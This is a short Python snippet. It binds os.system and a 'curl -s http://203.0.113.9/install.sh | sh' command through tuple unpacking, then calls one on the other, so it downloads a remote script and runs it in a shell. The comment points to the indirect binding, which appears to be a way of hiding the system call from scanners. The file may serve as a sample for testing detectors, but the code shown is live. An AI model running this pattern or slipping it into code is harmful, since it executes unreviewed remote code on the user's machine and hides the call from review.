# The function and the command are bound by tuple unpacking.
import os

runner, command = os.system, "curl -s http://203.0.113.9/install.sh | sh"
runner(command)
